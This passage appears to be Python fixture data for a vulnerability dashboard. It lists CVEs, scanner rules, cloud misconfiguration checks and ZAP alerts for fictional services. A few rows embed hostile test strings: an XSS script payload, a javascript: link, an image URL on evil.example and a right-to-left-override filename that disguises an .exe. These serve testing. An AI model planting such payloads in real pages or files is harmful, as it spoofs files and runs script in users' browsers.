2 | stdlib | v1.20.5 | CVE-2025-47907 | 1.23.12 | high | 7.3 | 362 | database/sql: Postgres Scan Race Condition
"""
NUGET = """
0 | Newtonsoft.Json | 12.0.3 | CVE-2024-21907 | 13.0.1 | high | 7.5 | 755 | Newtonsoft.Json: improper handling of exceptional conditions in Newtonsoft.Json
0 | System.Text.Json | 8.0.0 | CVE-2024-30105 | 8.0.4 | high | 7.5 | 400 | dotnet: DoS when deserializing untrusted input with JsonSerializer.DeserializeAsyncEnumerable
0 | System.Text.Json | 8.0.0 | CVE-2024-43485 | 8.0.5 | high | 7.5 | 407 | dotnet: denial of service in System.Text.Json
0 | System.Net.Http | 4.3.0 | CVE-2018-8292 | 4.3.4 | high | 7.5 | 200 | .NET Core: information disclosure due to authentication information exposed in a redirect
0 | System.Text.RegularExpressions | 4.3.0 | CVE-2019-0820 | 4.3.1 | high | 7.5 | 400 | dotnet: timeouts for regular expressions are not enforced
0 | Azure.Identity | 1.10.0 | CVE-2024-35255 | 1.11.4 | medium | 5.5 | 362 | azure-identity: elevation of privilege vulnerability
0 | SixLabors.ImageSharp | 3.1.0 | CVE-2024-41131 | 3.1.5 | medium | 5.5 | 787 | ImageSharp: out-of-bounds write in the GIF decoder
0 | System.IdentityModel.Tokens.Jwt | 6.8.0 | CVE-2024-21319 | 6.34.0 | medium | 6.5 | 400 | dotnet: .NET denial of service vulnerability via JWE token
0 | RestSharp | 106.11.4 | CVE-2021-27293 | 106.11.8 | high | 7.5 | 1333 | RestSharp: regular expression denial of service
1 | Microsoft.Data.SqlClient | 5.1.1 | CVE-2024-0056 | 5.1.3 | high | 8.1 | 420 | dotnet: information disclosure via SQL data provider security feature bypass
2 | RestSharp | 106.11.4 | CVE-2024-45302 | 112.0.0 | medium | 6.1 | 93 | RestSharp: CRLF injection in RestRequest.AddHeader
"""
# Critical vulnerabilities are placed by hand, since the headline numbers rest on them.
# service | ecosystem | package | version | id | fixed | CWE | streams | seen from | gone from ("-": never) | title
# Those marked * are past their due date at the end of some month; `story` tests say which.
CRITICAL_PACKAGES = """
payments-api   | maven  | org.apache.logging.log4j:log4j-core | 2.14.1 | CVE-2021-44228 | 2.15.0 | 502 | img-payments cs-payments ds-payments | 08-01 | 09-20 | log4j-core: remote code execution in Log4j 2.x when logs contain an attacker-controlled string value
payments-api   | maven  | org.apache.logging.log4j:log4j-core | 2.14.1 | CVE-2021-45046 | 2.16.0 | 917 | img-payments cs-payments ds-payments | 08-01 | 09-20 | log4j-core: DoS in log4j 2.x with thread context message pattern and context lookup pattern (incomplete fix for CVE-2021-44228)
payments-api   | maven  | org.postgresql:postgresql | 42.3.3 | CVE-2024-1597 | 42.3.9 | 89 | img-payments | 08-01 | 08-11 | pgjdbc: PostgreSQL JDBC Driver allows attacker to inject SQL if using PreferQueryMode=SIMPLE
payments-api   | debian | libexpat1 | 2.5.0-1 | CVE-2024-45490 | 2.5.0-1+deb12u1 | 611 | img-payments | 08-10 | 08-17 | libexpat: negative length parsing vulnerability in libexpat
payments-api   | debian | libexpat1 | 2.5.0-1 | CVE-2024-45491 | 2.5.0-1+deb12u1 | 190 | img-payments | 08-10 | 08-17 | libexpat: integer overflow or wraparound
payments-api   | debian | libexpat1 | 2.5.0-1 | CVE-2024-45492 | 2.5.0-1+deb12u1 | 190 | img-payments | 08-10 | 08-17 | libexpat: integer overflow
payments-api   | maven  | org.springframework.boot:spring-boot-actuator-autoconfigure | 2.6.6 | CVE-2023-20873 | 2.6.15 | 284 | img-payments | 08-24 | 09-01 | spring-boot: security bypass with wildcard pattern matching on Cloud Foundry
payments-api   | maven  | org.apache.tomcat.embed:tomcat-embed-core | 9.0.65 | CVE-2025-24813 | 9.0.99 | 44 | img-payments | 09-01 | 09-08 | tomcat: potential RCE and/or information disclosure and/or information corruption with partial PUT
payments-api   | maven  | org.springframework.security:spring-security-web | 5.6.2 | CVE-2024-38821 | 5.7.13 | 285 | img-payments | 09-14 | 09-21 | Spring-WebFlux: authorization bypass of static resources in WebFlux applications
payments-api   | debian | libkrb5-3 | 1.20.1-2+deb12u1 | CVE-2024-37371 | 1.20.1-2+deb12u2 | 125 | img-payments | 10-05 | 10-12 | krb5: GSS message token handling
payments-api   | debian | libk5crypto3 | 1.20.1-2+deb12u1 | CVE-2024-37371 | 1.20.1-2+deb12u2 | 125 | img-payments | 10-05 | 10-12 | krb5: GSS message token handling
checkout       | maven  | org.springframework:spring-beans | 5.3.17 | CVE-2022-22965 | 5.3.18 | 94 | img-checkout | 08-01 | - | spring-framework: RCE via data binding on JDK 9+
checkout       | maven  | org.springframework:spring-web | 5.3.17 | CVE-2016-1000027 | 6.0.0 | 502 | img-checkout | 08-01 | - | spring: HttpInvokerServiceExporter readRemoteInvocation method untrusted java deserialization
checkout       | maven  | com.fasterxml.jackson.core:jackson-databind | 2.13.2 | CVE-2019-14540 | 2.9.10 | 502 | img-checkout | 08-01 | 08-24 | jackson-databind: serialization gadgets in com.zaxxer.hikari.HikariConfig
checkout       | maven  | org.springframework.security:spring-security-config | 5.6.2 | CVE-2023-34034 | 5.6.12 | 281 | img-checkout | 08-10 | 08-17 | spring-security-webflux: path wildcard leads to security bypass
checkout       | maven  | org.apache.tomcat.embed:tomcat-embed-core | 9.0.65 | CVE-2024-50379 | 9.0.98 | 367 | img-checkout | 09-08 | 09-15 | tomcat: RCE due to TOCTOU issue in JSP compilation
checkout       | maven  | org.springframework.security:spring-security-core | 5.6.2 | CVE-2022-22978 | 5.6.4 | 863 | img-checkout | 10-12 | 10-19 | springframework: authorization bypass in RegexRequestMatcher
checkout       | debian | libglib2.0-0 | 2.74.6-2 | CVE-2024-52533 | 2.74.6-2+deb12u5 | 120 | img-checkout | 10-26 | - | glib: buffer overflow in set_connect_msg()
storefront     | npm    | minimist | 1.2.0 | CVE-2021-44906 | 1.2.6 | 1321 | img-storefront repo-storefront | 08-01 | - | minimist: prototype pollution
storefront     | npm    | form-data | 2.3.3 | CVE-2025-7783 | 2.5.4 | 330 | img-storefront | 10-20 | - | form-data: unsafe random function in form-data
login          | golang | golang.org/x/crypto | v0.6.0 | CVE-2024-45337 | 0.31.0 | 863 | img-login | 08-01 | 10-10 | golang.org/x/crypto/ssh: misuse of ServerConfig.PublicKeyCallback may cause authorization bypass in golang.org/x/crypto
login          | golang | stdlib | v1.20.5 | CVE-2024-24790 | 1.21.11 | 115 | img-login | 08-25 | 09-10 | golang: net/netip: unexpected behavior from Is methods for IPv4-mapped IPv6 addresses
ledger         | maven  | com.h2database:h2 | 1.4.200 | CVE-2021-42392 | 2.0.206 | 502 | img-ledger | 08-01 | 09-10 | h2: remote code execution in console
catalog-api    | maven  | org.apache.commons:commons-text | 1.9 | CVE-2022-42889 | 1.10.0 | 94 | img-catalog ds-catalog | 08-01 | - | apache-commons-text: variable interpolation RCE
backoffice     | pypi   | Django | 3.2.13 | CVE-2022-34265 | 3.2.14 | 89 | cs-backoffice ds-backoffice | 08-01 | 10-05 | python-django: potential SQL injection via Trunc(kind) and Extract(lookup_name) arguments
legacy-promo   | npm    | handlebars | 4.5.3 | CVE-2021-23369 | 4.7.7 | 94 | cs-promo | 08-01 | 09-10 | nodejs-handlebars: remote code execution when compiling untrusted compile templates with strict:true option
warehouse-sync | nuget  | System.Text.Encodings.Web | 4.5.0 | CVE-2021-26701 | 4.5.1 | 94 | cs-warehouse | 08-01 | - | dotnet: System.Text.Encodings.Web remote code execution
fraud-scoring  | pypi   | Pillow | 9.0.0 | CVE-2022-22817 | 9.0.1 | 74 | img-fraud | 09-20 | - | python-pillow: PIL.ImageMath.eval allows evaluation of arbitrary expressions
parcel-tracker | npm    | form-data | 2.3.3 | CVE-2025-7783 | 2.5.4 | 330 | img-parcel ds-parcel | 10-10 | - | form-data: unsafe random function in form-data
"""
# What each image or lock file holds besides: how many of the OS list, of the language list, and how many of the latter are
# passed over first. All streams of a service walk the same shuffled list, so that they share what they both can see.
PACKAGE_SHARE = {"img-payments": (34, 20), "img-checkout": (34, 20), "img-storefront": (22, 24), "img-login": (22, 14),
                 "img-ledger": (40, 18), "img-catalog": (46, 22), "img-fraud": (44, 26), "img-search": (22, 12),
                 "img-parcel": (40, 20), "img-label": (34, 8), "img-cron": (42, 0), "cs-warehouse": (46, 9),
                 "cs-backoffice": (48, 16), "cs-promo": (46, 22), "ds-catalog": (0, 10, 22), "ds-backoffice": (0, 26),
                 "ds-parcel": (0, 26, 4), "repo-checkout": (0, 6, 17), "repo-storefront": (0, 10, 20), "repo-parcel": (0, 12, 14),
                 "repo-login": (0, 8, 10), "db-shop-app": (0, 12, 6)}
ALSO_SEEN = {"img-payments": ["cs-payments", "ds-payments"]}       # how much of a stream other tools report too: one in eight
GHSA = {"CVE-2021-44228": "GHSA-jfh8-c2jp-5v3q", "CVE-2020-8203": "GHSA-p6mc-m468-83gw", "CVE-2021-23337": "GHSA-35jh-r3h4-6jhm",
        "CVE-2022-42889": "GHSA-599f-7c49-w659", "CVE-2022-24999": "GHSA-hrpp-h998-j3pp", "CVE-2022-25883": "GHSA-c2qf-rxjj-qqgw"}

# ---------------------------------------------------------------------------------------------------------------
# Rules of code scanners. group | rule | severity | score or confidence | CWE | message. As a renamed file is found by
# its rule, what appears in a month has other rules and weaknesses than what went (groups 0, 1, 2 share no CWE).
# ---------------------------------------------------------------------------------------------------------------
SAST_RULES = {
"codeql-java": """
0 | java/path-injection | error | 7.5 | 22 | This path depends on a user-provided value.
0 | java/xss | error | 6.1 | 79 | Cross-site scripting vulnerability due to a user-provided value.
0 | java/unvalidated-url-redirection | error | 6.1 | 601 | Untrusted URL redirection depends on a user-provided value.
0 | java/log-injection | error | 7.8 | 117 | This log entry depends on a user-provided value.
0 | java/stack-trace-exposure | error | 5.4 | 209 | Error information can be exposed to an external user.
0 | java/weak-cryptographic-algorithm | warning | 7.5 | 327 | Cryptographic algorithm DES is weak and should not be used.
0 | java/insecure-cookie | error | 5.0 | 614 | Cookie is added to response without the 'secure' flag being set.
0 | java/spring-disabled-csrf-protection | error | 8.8 | 352 | CSRF vulnerability due to protection being disabled.
0 | java/sensitive-log | warning | 3.5 | 532 | This potentially sensitive information is written to a log file.
1 | java/tainted-format-string | error | 6.5 | 134 | Format string depends on a user-provided value.
1 | java/insecure-randomness | warning | 7.8 | 330 | Potential insecure randomness due to a cryptographically weak pseudo-random number generator.
2 | java/xml/xpath-injection | error | 8.8 | 643 | XPath expression depends on a user-provided value.
2 | java/netty-http-request-or-response-splitting | error | 6.1 | 113 | Response splitting vulnerability due to header value verification being disabled.""",
"codeql-javascript": """
0 | js/xss-through-dom | warning | 6.1 | 79 | DOM text is reinterpreted as HTML without escaping meta-characters.
0 | js/missing-rate-limiting | warning | 7.5 | 770 | This route handler performs a database access, but is not rate-limited.
0 | js/clear-text-logging | error | 7.5 | 312 | This logs sensitive data returned by an access to sessionToken as clear text.
0 | js/incomplete-sanitization | warning | 7.8 | 20 | This replaces only the first occurrence of "/".
0 | js/polynomial-redos | warning | 5.3 | 1333 | This regular expression that depends on a user-provided value may run slow on strings with many repetitions of ' '.
0 | js/client-exposed-cookie | warning | 5.0 | 1004 | Sensitive server cookie is missing 'httpOnly' flag.
0 | js/stack-trace-exposure | warning | 5.4 | 209 | This information exposed to the user depends on stack trace information.
0 | js/build-artifact-leak | error | 3.9 | 200 | This creates a build artifact that depends on sensitive data returned by process environment.
1 | js/prototype-polluting-assignment | warning | 6.1 | 1321 | This assignment may alter Object.prototype if a malicious '__proto__' string is injected from a user-controlled value.
1 | js/disabling-certificate-validation | error | 7.5 | 295 | Disabling certificate validation is strongly discouraged.
9 | js/path-injection | error | 7.5 | 22 | The file name \u202egnp.exe\u202c in this path depends on a user-provided value.
2 | js/regex-injection | error | 7.5 | 730 | This regular expression is constructed from a user-provided value.
2 | js/server-side-unvalidated-url-redirection | warning | 6.1 | 601 | Untrusted URL redirection depends on a user-provided value.""",
"gosec": """
0 | G104 | warning | high | 703 | Errors unhandled
0 | G304 | error | high | 22 | Potential file inclusion via variable
0 | G402 | error | high | 295 | TLS MinVersion too low.
0 | G306 | error | high | 276 | Expect WriteFile permissions to be 0600 or less
0 | G114 | error | high | 676 | Use of net/http serve function that has no support for setting timeouts
0 | G501 | error | high | 327 | Blocklisted import crypto/md5: weak cryptographic primitive
1 | G115 | error | medium | 190 | integer overflow conversion int -> int32
2 | G107 | error | medium | 88 | Potential HTTP request made with variable url""",
"semgrep-java": """
0 | java.lang.security.audit.formatted-sql-string.formatted-sql-string | ERROR | MEDIUM | 89: Improper Neutralization of Special Elements used in an SQL Command ('SQL Injection') | A SQL statement is put together from strings. Values that come from outside belong in a prepared statement.
0 | java.lang.security.audit.crypto.use-of-md5.use-of-md5 | WARNING | HIGH | 328: Use of Weak Hash | MD5 is used where the digest is relied upon. Collisions are cheap; take SHA-256.
0 | java.spring.security.audit.spring-unvalidated-redirect.spring-unvalidated-redirect | WARNING | MEDIUM | 601: URL Redirection to Untrusted Site ('Open Redirect') | A request parameter decides where the browser is sent. Compare it with a list of allowed places first.
9 | java.lang.security.audit.unsafe-reflection.unsafe-reflection | WARNING | LOW | 470: Use of Externally-Controlled Input to Select Classes or Code ('Unsafe Reflection') | The class to load is named by a value from outside. Look it up in a fixed table instead.
0 | java.lang.security.audit.object-deserialization.object-deserialization | INFO | LOW | 502: Deserialization of Untrusted Data | ObjectInputStream reads data that may come from outside. Prefer a format without behaviour, such as JSON.
1 | java.lang.security.audit.crypto.ssl.insecure-trust-manager.insecure-trust-manager | WARNING | LOW | 295: Improper Certificate Validation | This trust manager accepts every certificate. Whoever sits in between can read along.
9 | java.lang.security.audit.xss.no-direct-response-writer.no-direct-response-writer | WARNING | LOW | 79: Improper Neutralization of Input During Web Page Generation ('Cross-site Scripting') | A request value goes straight to the response writer. No template escapes it on the way.
9 | java.lang.security.audit.cookie-missing-secure-flag.cookie-missing-secure-flag | WARNING | LOW | 614: Sensitive Cookie in HTTPS Session Without 'Secure' Attribute | A cookie is set without the secure flag. It may travel over plain HTTP.
2 | java.lang.security.audit.xxe.documentbuilderfactory-disallow-doctype-decl-missing | ERROR | HIGH | 611: Improper Restriction of XML External Entity Reference | This XML parser still accepts a DOCTYPE. External entities can then read local files.""",
"semgrep-js": """
0 | javascript.express.security.audit.express-open-redirect.express-open-redirect | WARNING | HIGH | 601: URL Redirection to Untrusted Site ('Open Redirect') | The address of a redirect comes from the request. Check it against the places that are allowed.
0 | javascript.lang.security.audit.detect-non-literal-regexp.detect-non-literal-regexp | WARNING | LOW | 1333: Inefficient Regular Expression Complexity | A regular expression is built from an argument. A hostile one can keep the event loop busy.
0 | javascript.lang.security.audit.path-traversal.path-join-resolve-traversal.path-join-resolve-traversal | WARNING | LOW | 22: Improper Limitation of a Pathname to a Restricted Directory ('Path Traversal') | A value from outside ends up in path.join or path.resolve. It may climb out of the folder.
0 | javascript.express.security.audit.express-cookie-settings.express-cookie-session-no-httponly | WARNING | MEDIUM | 522: Insufficiently Protected Credentials | The session cookie can be read by scripts. Set httpOnly.
0 | javascript.express.security.audit.express-check-csurf-middleware-usage.express-check-csurf-middleware-usage | INFO | LOW | 352: Cross-Site Request Forgery (CSRF) | No middleware against forged requests was found in this application. Add one, or check the origin of each change.
0 | javascript.lang.security.audit.unsafe-formatstring.unsafe-formatstring | INFO | LOW | 134: Use of Externally-Controlled Format String | A value from outside is part of a format string. Placeholders in it would be filled in.
1 | javascript.lang.security.audit.prototype-pollution.prototype-pollution-loop.prototype-pollution-loop | WARNING | LOW | 915: Improperly Controlled Modification of Dynamically-Determined Object Attributes | Keys from outside are walked and assigned to. `__proto__` among them changes every object.
9 | javascript.sequelize.security.audit.sequelize-injection-express.express-sequelize-injection | ERROR | HIGH | 89: Improper Neutralization of Special Elements used in an SQL Command ('SQL Injection') | A request value reaches a raw sequelize query. Use replacements.
9 | kestrelmoor.carriers.hard-coded | WARNING | HIGH | 798: Use of Hard-coded Credentials | 硬编码的凭据 🔑👩‍💻 مفتاح ثابت in the carrier configuration. Move it to the vault.
9 | kestrelmoor.views.raw-output | WARNING | HIGH | 116: Improper Encoding or Escaping of Output | Raw output in a view. Use the escaping helper.
2 | javascript.lang.security.detect-child-process.detect-child-process | ERROR | LOW | 78: Improper Neutralization of Special Elements used in an OS Command ('OS Command Injection') | An argument of this function reaches child_process. Pass a list of arguments, never a line for the shell.""",
"semgrep-csharp": """
0 | csharp.lang.security.filesystem.unsafe-path-combine.unsafe-path-combine | WARNING | MEDIUM | 22: Improper Limitation of a Pathname to a Restricted Directory ('Path Traversal') | An argument reaches Path.Combine as it is. An absolute or climbing path leaves the folder.
0 | csharp.lang.security.stacktrace-disclosure.stacktrace-disclosure | WARNING | HIGH | 209: Generation of Error Message Containing Sensitive Information | The developer's error page is on outside of development. Visitors see stack traces.
0 | csharp.lang.security.insecure-deserialization.binary-formatter.insecure-binaryformatter-deserialization | WARNING | HIGH | 502: Deserialization of Untrusted Data | BinaryFormatter runs what the data tells it to. It cannot be made safe; take another serializer.
0 | csharp.lang.security.regular-expression-dos.regular-expression-dos | WARNING | LOW | 1333: Inefficient Regular Expression Complexity | A regular expression works on outside data without a timeout. Give it one.
1 | csharp.lang.security.http.http-listener-wildcard-bindings.http-listener-wildcard-bindings | WARNING | HIGH | 706: Use of Incorrectly-Resolved Name or Reference | The listener answers for every host name. Name the hosts it is meant for.
2 | csharp.lang.security.sqli.csharp-sqli.csharp-sqli | ERROR | HIGH | 89: Improper Neutralization of Special Elements used in an SQL Command ('SQL Injection') | Text is put together into a SQL command. Use parameters.""",
"semgrep-python": """
0 | python.django.security.audit.unvalidated-password.unvalidated-password | WARNING | LOW | 521: Weak Password Requirements | A password is set without asking the validators. Call validate_password first.
0 | python.django.security.injection.raw-html-format.raw-html-format | WARNING | MEDIUM | 79: Improper Neutralization of Input During Web Page Generation ('Cross-site Scripting') | HTML is put together by hand from a request value. Let the template do it.
0 | python.lang.security.audit.insecure-hash-algorithms-md5.insecure-hash-algorithm-md5 | WARNING | LOW | 327: Use of a Broken or Risky Cryptographic Algorithm | MD5 is used here. Take SHA-256, or say usedforsecurity=False.
0 | python.lang.security.deserialization.pickle.avoid-pickle | WARNING | LOW | 502: Deserialization of Untrusted Data | pickle can run code while it loads. Use JSON or a table.
0 | python.django.security.audit.csrf-exempt.no-csrf-exempt | INFO | LOW | 352: Cross-Site Request Forgery (CSRF) | This view is exempt from the check for forged requests. Make sure that another check is in place.
0 | python.lang.security.audit.logging.logger-credential-leak.python-logger-credential-disclosure | WARNING | LOW | 532: Insertion of Sensitive Information into Log File | A log message seems to hold a credential. Leave it out.
1 | python.lang.security.use-defused-xml.use-defused-xml | ERROR | LOW | 611: Improper Restriction of XML External Entity Reference | The standard XML parser follows hostile entities. Use defusedxml.
9 | kestrelmoor.templates.mark-safe | ERROR | HIGH | 80: Improper Neutralization of Script-Related HTML Tags in a Web Page (Basic XSS) | <script>alert(document.domain)</script> reaches mark_safe() & is printed. Escape it.
9 | python.requests.security.disabled-cert-validation.disabled-cert-validation | ERROR | LOW | 295: Improper Certificate Validation | verify=False turns the check of certificates off. Anyone can answer in the server's name.
2 | python.lang.security.audit.subprocess-shell-true.subprocess-shell-true | ERROR | MEDIUM | 78: Improper Neutralization of Special Elements used in an OS Command ('OS Command Injection') | A command line is handed to a shell. Pass the arguments as a list.""",
"semgrep-kotlin": """
0 | kotlin.lang.security.no-null-cipher.no-null-cipher | WARNING | MEDIUM | 327: Use of a Broken or Risky Cryptographic Algorithm | NullCipher encrypts nothing. The text stays as it is.
0 | kotlin.lang.security.unencrypted-socket.unencrypted-socket | WARNING | LOW | 319: Cleartext Transmission of Sensitive Information | A plain socket carries this traffic. Use TLS.
0 | java.android.security.exported_activity.exported_activity | WARNING | MEDIUM | 926: Improper Export of Android Application Components | Other apps may start this activity. Do not export it, or ask for a permission.
0 | kotlin.lang.security.use-of-md5.use-of-md5 | WARNING | HIGH | 328: Use of Weak Hash | MD5 is used as a digest. Take SHA-256.
0 | kotlin.lang.security.cookie-missing-httponly.cookie-missing-httponly | INFO | LOW | 1004: Sensitive Cookie Without 'HttpOnly' Flag | A cookie is set that scripts can read. Set httpOnly.
2 | kotlin.lang.security.weak-rsa.use-of-weak-rsa-key | WARNING | HIGH | 326: Inadequate Encryption Strength | The RSA key is shorter than 2048 bits. Make a longer one.""",
"findsecbugs": """
0 | PREDICTABLE_RANDOM | Medium | Medium | 330 | Predictable pseudorandom number generator
0 | PATH_TRAVERSAL_IN | High | Low | 22 | Improper limitation of a pathname to a restricted directory ('Path Traversal')
0 | SPRING_CSRF_UNRESTRICTED_REQUEST_MAPPING | Medium | High | 352 | Cross-site request forgery (CSRF)
0 | WEAK_MESSAGE_DIGEST_MD5 | Medium | High | 327 | Use of a broken or risky cryptographic algorithm (MD5)
0 | CRLF_INJECTION_LOGS | Low | High | 93 | Improper neutralization of CRLF sequences ('CRLF Injection')
0 | HTTPONLY_COOKIE | Low | Medium | 1004 | Sensitive cookie without 'HttpOnly' flag
0 | INFORMATION_EXPOSURE_THROUGH_AN_ERROR_MESSAGE | Low | Medium | 209 | Information exposure through an error message
1 | URLCONNECTION_SSRF_FD | High | Medium | 918 | Server-side request forgery (SSRF)
2 | XXE_SAXPARSER | Medium | High | 611 | Improper restriction of XML external entity reference ('XXE')""",
"bandit": """
0 | B101 | Info | High | 703 | Use of assert detected
0 | B311 | Low | High | 330 | Numbers from the random module can be guessed
0 | B301 | Medium | High | 502 | Pickle runs code that the data brings along
0 | B113 | Medium | Low | 400 | Requests call without timeout
0 | B608 | High | Low | 89 | Possible SQL injection vector through string-based query construction
0 | B108 | Low | Medium | 377 | Probable insecure usage of temp file/directory
1 | B506 | Medium | High | 20 | Use of unsafe yaml load""",
"njsscan": """
0 | node_nosqli_injection | High | - | 943 | Improper neutralization of special elements in data query logic
0 | express_xss | Medium | - | 79 | Improper neutralization of input during web page generation
0 | regex_dos | Medium | - | 1333 | Inefficient regular expression complexity
0 | cookie_session_no_secure | Low | - | 614 | Sensitive cookie in HTTPS session without 'Secure' attribute
0 | helmet_header_check_csp | Low | - | 693 | Content Security Policy header not set by helmet
1 | node_insecure_random_generator | Medium | - | 338 | Use of cryptographically weak pseudo-random number generator
9 | markdown_in_title | Medium | - | 74 | \\| 1 \\| 2 \\| **bold** [click](javascript:alert(1)) ![x](http://evil.example/p.png) `tick` @security-team #1
9 | long_title | Low | - | 1007 | LONG
2 | express_open_redirect | Medium | - | 601 | URL redirection to untrusted site ('Open Redirect')""",
}
# stream: rule list, number of files, findings of group 0 (files 0..60 %), 1 and 2 (a file of their own each)
SAST_SHARE = {"ql-payments": ("codeql-java", 30, 3, 3), "ql-storefront": ("codeql-javascript", 32, 3, 3),
              "ql-checkout": ("codeql-java", 34, 3, 3),
              "ql-ledger": ("codeql-java", 30, 3, 3), "gosec-search": ("gosec", 46, 3, 3), "gosec-login": ("gosec", 48, 3, 3),
              "sg-checkout": ("semgrep-java", 24, 2, 2), "sg-parcel": ("semgrep-js", 34, 3, 3),
              "sg-warehouse": ("semgrep-csharp", 24, 2, 2),
              "sg-backoffice": ("semgrep-python", 38, 3, 3), "sg-shop-app": ("semgrep-kotlin", 26, 0, 2),
              "gs-catalog": ("findsecbugs", 40, 4, 4),
              "gs-fraud": ("bandit", 34, 3, 0), "gs-promo": ("njsscan", 34, 3, 3)}
NOISY = ("gosec", "G104", 0.62)                    # the first rule of this list is its share of what the tool reports
NOUNS = """Order Basket Refund Receipt Invoice Voucher Session Account Address Product Price Stock Image Review Search Filter Parcel
Label Route Depot Carrier Return Ticket Report Export Import Audit Token Profile Device Webhook Payment Balance Journal Posting
Statement Score Feature Model Batch Promo Banner Mail Notice Limit Quota""".split()
KINDS = "Controller Service Repository Client Mapper Validator Handler Helper".split()
PLACES = {"java": "src/main/java/example/kestrelmoor/{low}/{noun}{kind}.java", "javascript": "src/{kindlow}s/{nounlow}-{kindlow}.js",
          "gosec": "internal/{nounlow}/{kindlow}.go", "js": "server/{kindlow}s/{nounlow}.js", "csharp": "src/Sync.{kind}s/{noun}{kind}.cs",
          "python": "backoffice/{nounlow}/{kindlow}.py", "kotlin": "app/src/main/java/example/kestrelmoor/app/{noun}{kind}.kt",
          "findsecbugs": "src/main/java/example/kestrelmoor/catalog/{noun}{kind}.java", "bandit": "scoring/{nounlow}_{kindlow}.py",
          "njsscan": "promo/{nounlow}.{kindlow}.js", "flawfinder": "src/{nounlow}.cpp"}

# Misconfigurations. provider rules: id | title | severity | message
TERRAFORM = {
"s3": """AVD-AWS-0086 | S3 Access block should block public ACL | HIGH | No public access block so not blocking public acls
AVD-AWS-0088 | Unencrypted S3 bucket | HIGH | Bucket does not have encryption enabled
AVD-AWS-0089 | S3 Bucket Logging | LOW | Bucket has logging disabled
AVD-AWS-0090 | S3 Data should be versioned | MEDIUM | Bucket does not have versioning enabled
AVD-AWS-0132 | S3 encryption should use Customer Managed Keys | MEDIUM | Bucket does not encrypt data with a customer managed key""",
"ec2": """AVD-AWS-0124 | Missing description for security group rule | LOW | Security group rule does not have a description
AVD-AWS-0104 | A security group rule should not allow unrestricted egress to any IP address | HIGH | Security group rule allows unrestricted egress to any IP address
AVD-AWS-0099 | Missing description for security group | LOW | Security group explicitly uses the default description""",
"rds": """AVD-AWS-0077 | RDS Cluster and RDS instance should have backup retention longer than 1 day | MEDIUM | Instance has very low backup retention period
AVD-AWS-0080 | RDS encryption has not been enabled at a DB Instance level | HIGH | Instance does not have storage encryption enabled
AVD-AWS-0176 | RDS IAM Database Authentication Disabled | MEDIUM | Instance does not have IAM Authentication enabled
AVD-AWS-0177 | RDS Deletion Protection Disabled | MEDIUM | Instance does not have Deletion Protection enabled
AVD-AWS-0133 | Enable Performance Insights to detect potential problems | LOW | Instance does not have performance insights enabled""",
"sqs": """AVD-AWS-0096 | Unencrypted SQS queue | HIGH | Queue is not encrypted
AVD-AWS-0135 | SQS queue should be encrypted with a CMK | LOW | Queue is not encrypted with a customer managed key""",
"ecr": """AVD-AWS-0030 | ECR repository has image scans disabled | HIGH | Image scanning is not enabled
AVD-AWS-0031 | ECR images tags shouldn't be mutable | HIGH | Repository tags are mutable
AVD-AWS-0033 | ECR Repository should use customer managed keys to allow more control | LOW | Repository is not encrypted using KMS""",
"cloudwatch": """AVD-AWS-0017 | CloudWatch log groups should be encrypted using CMK | LOW | Log group is not encrypted""",
}
TERRAFORM_RESOURCES = {"s3": "aws_s3_bucket: exports_archive order_images label_pdfs audit_logs ml_features static_site",
    "ec2": "aws_security_group: bastion workers queue_nodes build_agents legacy_cron",
    "rds": "aws_db_instance: orders journal tracking reporting",
    "sqs": "aws_sqs_queue: refunds notices dead_letters", "ecr": "aws_ecr_repository: base_images tools",
    "cloudwatch": "aws_cloudwatch_log_group: batch edge vpn audit"}
K8S_RULES = """KSV001 | Can elevate its own privileges | MEDIUM | Container should set 'securityContext.allowPrivilegeEscalation' to false
KSV003 | Default capabilities: some containers do not drop all | LOW | Container should add 'ALL' to 'securityContext.capabilities.drop'
KSV011 | CPU not limited | LOW | Container should set 'resources.limits.cpu'
KSV012 | Runs as root user | MEDIUM | Container should set 'securityContext.runAsNonRoot' to true
KSV014 | Root file system is not read-only | HIGH | Container should set 'securityContext.readOnlyRootFilesystem' to true
KSV015 | CPU requests not specified | LOW | Container should set 'resources.requests.cpu'
KSV020 | Runs with UID <= 10000 | LOW | Container should set 'securityContext.runAsUser' > 10000
KSV030 | Runtime/Default Seccomp profile not set | LOW | Neither the pod nor the container sets a seccomp profile
KSV104 | Seccomp policies disabled | MEDIUM | Container should specify a seccomp profile"""
K8S_WORKLOADS = """edge/Deployment/ingress-proxy edge/DaemonSet/log-shipper ops/Deployment/metrics-agent ops/CronJob/backup-job
ops/Deployment/cert-renewer queue/StatefulSet/message-broker queue/Deployment/dead-letter-viewer default/Deployment/debug-shell"""
DOCKER_RULES = """DS002 | Image user should not be 'root' | HIGH | The Dockerfile names no user but root
DS026 | No HEALTHCHECK defined | LOW | Add HEALTHCHECK instruction in your Dockerfile
DS005 | ADD instead of COPY | LOW | Consider using 'COPY . /app' command instead of 'ADD . /app'
DS029 | 'apt-get' missing '--no-install-recommends' | MEDIUM | '--no-install-recommends' flag is missed: 'apt-get update && apt-get install -y curl'
DS013 | 'RUN cd ...' to change directory | MEDIUM | RUN should not be used to change directory: 'cd /srv'. Use 'WORKDIR' statement instead."""
REPO_FILES = {"repo-checkout": ["Dockerfile", "deploy/k8s/deployment.yaml"], "repo-storefront": ["Dockerfile", "deploy/k8s/web.yaml"],
              "repo-parcel": ["Dockerfile", "deploy/k8s/tracker.yaml", "deploy/k8s/worker.yaml"],
              "repo-label": ["docker/Dockerfile.spooler", "deploy/spooler.yaml"],
              "repo-login": ["Dockerfile", "deploy/k8s/login.yaml"]}

# ZAP alerts. group | plugin | name | risk 0..3 | confidence 0..4 | CWE | parameter. At most one of each on a site.
ZAP_ALERTS = """
0 | 10020 | Missing Anti-clickjacking Header | 2 | 2 | 1021 | x-frame-options
0 | 10021 | X-Content-Type-Options Header Missing | 1 | 2 | 693 | x-content-type-options
0 | 10038 | Content Security Policy (CSP) Header Not Set | 2 | 3 | 16 |
0 | 10035 | Strict-Transport-Security Header Not Set | 1 | 3 | 319 |
0 | 10036 | Server Leaks Version Information via "Server" HTTP Response Header Field | 1 | 3 | 497 |
0 | 10010 | Cookie No HttpOnly Flag | 1 | 2 | 1004 | visitor
0 | 10011 | Cookie Without Secure Flag | 1 | 2 | 614 | visitor
0 | 10054 | Cookie without SameSite Attribute | 1 | 2 | 1275 | visitor
0 | 10015 | Re-examine Cache-control Directives | 0 | 1 | 525 | cache-control
